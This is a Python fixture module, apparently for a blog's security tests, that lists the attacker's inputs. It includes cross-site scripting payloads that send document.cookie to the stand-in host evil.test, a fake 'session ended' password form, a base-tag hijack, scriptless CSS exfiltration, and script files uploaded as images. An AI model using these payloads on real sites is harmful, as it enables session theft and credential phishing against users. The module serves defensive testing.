"""What Mallory puts into the blog: the markup of comments and searches, and two uploads."""

from __future__ import annotations

from string import ascii_lowercase

EVIL = "https://evil.test"

DRAFT = "/drafts/Wq7-only-for-my-sister"
"""The address of ann's draft, which nobody else should learn; schema.sql has it."""

RUN = f"document.documentElement.dataset.ran = 1; new Image().src = `{EVIL}/?${{document.cookie}}`"
"""What each injected script does: leave a mark on the page, and send the cookies away."""

BASE = f'<base href="{EVIL}/">'

FORM = f"""<form class="evil" action="{EVIL}/" method="post">
Your session has ended. <input name="password" type="password"> <button>Log in</button></form>"""

LEAK = f"""<img src="{EVIL}/pixel.gif"><link rel="stylesheet" href="{EVIL}/leak.css">
<iframe src="{EVIL}/frame"></iframe><video src="{EVIL}/film.mp4"></video>
<link rel="preload" as="font" crossorigin href="{EVIL}/font.woff2">
<link rel="preload" as="fetch" crossorigin href="{EVIL}/data.json"><style>""" + "".join(
    f'nav a[title^="{letter}"] {{ background: url({EVIL}/reader-begins-with-{letter}) }}'
    for letter in ascii_lowercase
)
"""Needs no script: the sheet of style asks for another picture for each first letter of the
reader's own address."""
LEAK += "</style>"

PAGE = f"<h1>A cat</h1><script>{RUN}</script>".encode()
"""Uploaded as cat.png, with no type at all."""

SCRIPT = RUN.encode()
"""Uploaded as dog.png, as text/plain."""


def scripts(nonce: str = "") -> str:
    """A script in the four ways to inject one; ``nonce`` is one that Mallory saw on a page."""
    return (
        f'<script>{RUN}</script><script nonce="{nonce}">{RUN}</script>'
        f"<img src='/nothing' onerror='{RUN}'><script src='{EVIL}/x.js'></script>"
    )
